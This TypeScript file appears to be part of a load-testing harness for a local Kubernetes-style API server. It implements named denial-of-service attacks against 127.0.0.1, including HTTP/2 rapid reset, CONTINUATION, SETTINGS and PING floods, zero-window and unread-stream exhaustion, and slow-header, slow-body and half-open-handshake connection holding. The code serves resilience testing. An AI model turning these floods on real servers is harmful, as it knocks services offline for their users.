import { Buffer } from 'node:buffer';
import { once } from 'node:events';
import http2 from 'node:http2';
import net, { type Socket } from 'node:net';
import { answerFrames, connect, connectHTTP2, frame, frameType, getVersion } from '../../kit/load/frames.js';

/** The target of an attack, and the attack's results so far. */
export interface AttackContext {
  readonly port: number;
  readonly token: string;
  /** Aborts at the end of the attack. */
  readonly signal: AbortSignal;
  /** Number of connections that stay open, in attacks that consist of open connections. */
  readonly connections: number;
  /** Number of frames, connections or requests that were sent. */
  sent: number;
  /** Number of connections that the server closed. */
  closed: number;
  /** Must be called when the attack has begun: its effect is measured from then on. */
  begun(): void;
}

/** An attack runs until its signal aborts. */
type Attack = (context: AttackContext) => Promise<void>;

/**
 * Writes pieces to HTTP/2 connections as fast as the server accepts them, and reconnects when the server closes a
 * connection.
 */
const flood =
  (begin: Uint8Array, piece: (round: number) => Uint8Array, framesPerPiece: number): Attack =>
  async (context) => {
    context.begun();
    await Promise.all(Array.from({ length: 4 }, () => floodOne(context, begin, piece, framesPerPiece)));
  };

async function floodOne(
  context: AttackContext,
  begin: Uint8Array,
  piece: (round: number) => Uint8Array,
  framesPerPiece: number,
): Promise<void> {
  const { signal, port } = context;
  while (!signal.aborted) {
    const socket = await connectHTTP2(port).catch(() => undefined);
    if (socket === undefined) continue;
    socket.write(begin);
    for (let round = 0; !signal.aborted && !socket.destroyed; round++) {
      context.sent += framesPerPiece;
      socket.write(piece(round));
      do await new Promise((resolve) => setTimeout(resolve, 1));
      while (socket.writableNeedDrain && !socket.destroyed && !signal.aborted);
    }
    if (!signal.aborted) context.closed++;
    socket.destroy();
  }
}

const ended = (signal: AbortSignal) =>
  new Promise<void>((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });

/**
 * Keeps connections open. Connections that the server closes are opened again. The end of the process closes all of
 * them together.
 *
 * @param use is called every second with each connection. Default: does nothing
 * @param begins whether the attack begins with its first connection, or when all are open. Default `first`
 */
async function keepOpen(
  context: AttackContext,
  open: () => Promise<Socket>,
  use: (socket: Socket) => void = () => {},
  begins: 'first' | 'all' = 'first',
): Promise<void> {
  const { connections, signal } = context;
  const sockets = new Set<Socket>();
  if (begins === 'first') context.begun();
  const fill = async () => {
    while (!signal.aborted) {
      if (sockets.size >= connections) {
        if (begins === 'all') context.begun();
        await new Promise((resolve) => setTimeout(resolve, 50));
        continue;
      }
      const socket = await open().catch(() => undefined);
      if (socket === undefined) continue;
      context.sent++;
      sockets.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => {
        sockets.delete(socket);
        if (!signal.aborted) context.closed++;
      });
    }
  };
  const timer = setInterval(() => {
    for (const socket of sockets) use(socket);
  }, 1000);
  await Promise.all(Array.from({ length: 32 }, fill));
  clearInterval(timer);
}

/** Requests whose responses are not read, a hundred on each connection. */
const unread =
  (path: string, windowSize: number): Attack =>
  async (context) => {
    const { port, token, signal, connections } = context;
    context.begun();
    const sessions = Array.from({ length: Math.ceil(connections / 100) }, () => {
      const session = http2.connect(`https://127.0.0.1:${port}`, {
        rejectUnauthorized: false,
        settings: { initialWindowSize: windowSize },
      });
      session.on('error', () => {});
      session.on('close', () => {
        if (!signal.aborted) context.closed++;
      });
      for (let i = 0; i < 100; i++) {
        const stream = session.request({ ':path': path, authorization: `Bearer ${token}` });
        stream.on('error', () => {});
        stream.pause();
        context.sent++;
      }
      return session;
    });
    await ended(signal);
    for (const session of sessions) session.destroy();
  };

const maps = '/api/v1/configmaps';
const openTCP = async (port: number, bytes: Uint8Array): Promise<Socket> => {
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => {});
  await Promise.race([once(socket, 'connect'), once(socket, 'close').then(() => Promise.reject(new Error('closed')))]);
  socket.write(bytes);
  socket.resume();
  return socket;
};

/** The first bytes of a TLS handshake. The rest is never sent. */
const halfHello = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);

/** Attacks by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': flood(
    Buffer.alloc(0),
    (round) =>
      Buffer.concat(
        Array.from({ length: 50 }, (_, i) => {
          const stream = 2 * (round * 50 + i) + 1;
          return Buffer.concat([
            frame(frameType.headers, 5, stream, getVersion),
            frame(frameType.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
          ]);
        }),
      ),
    100,
  ),
  continuation: flood(
    frame(frameType.headers, 1, 1, getVersion),
    () => frame(frameType.continuation, 0, 1, Buffer.alloc(16_000)),
    1,
  ),
  settings: flood(
    Buffer.alloc(0),
    () =>
      Buffer.concat(
        Array.from({ length: 100 }, () => frame(frameType.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
      ),
    100,
  ),
  ping: flood(
    Buffer.alloc(0),
    () => Buffer.concat(Array.from({ length: 100 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8)))),
    100,
  ),
  'zero windows': unread(`${maps}?limit=500`, 0),
  'unread lists': unread(maps, 65_535),
  'unread watches': unread(`${maps}?watch=1`, 65_535),
  'unread WebSockets': (context) =>
    keepOpen(context, async () => {
      const socket = await connect(context.port, 'http/1.1');
      const head = `GET ${maps}?watch=1 HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${context.token}\r\n`;
      const upgrade = 'connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n';
      socket.pause();
      socket.write(`${head}${upgrade}sec-websocket-key: ${Buffer.alloc(16).toString('base64')}\r\n\r\n`);
      return socket;
    }),
  'slow headers': (context) =>
    keepOpen(
      context,
      async () => {
        const socket = await connect(context.port, 'http/1.1');
        socket.write('GET /version HTTP/1.1\r\n');
        return socket;
      },
      (socket) => socket.write('a: b\r\n'),
    ),
  'slow bodies': (context) =>
    keepOpen(
      context,
      async () => {
        const socket = await connect(context.port, 'http/1.1');
        const head = `POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${context.token}\r\n`;
        socket.write(`${head}content-type: application/json\r\ncontent-length: 1000000\r\n\r\n`);
        return socket;
      },
      (socket) => socket.write('{'),
    ),
  'half-open handshakes': (context) => keepOpen(context, () => openTCP(context.port, halfHello)),
  'opening connections': (context) => keepOpen(context, () => openIdle(context)),
  'idle connections': (context) => keepOpen(context, () => openIdle(context), undefined, 'all'),
};

async function openIdle({ port }: AttackContext): Promise<Socket> {
  const socket = await connectHTTP2(port);
  answerFrames(socket);
  return socket;
}
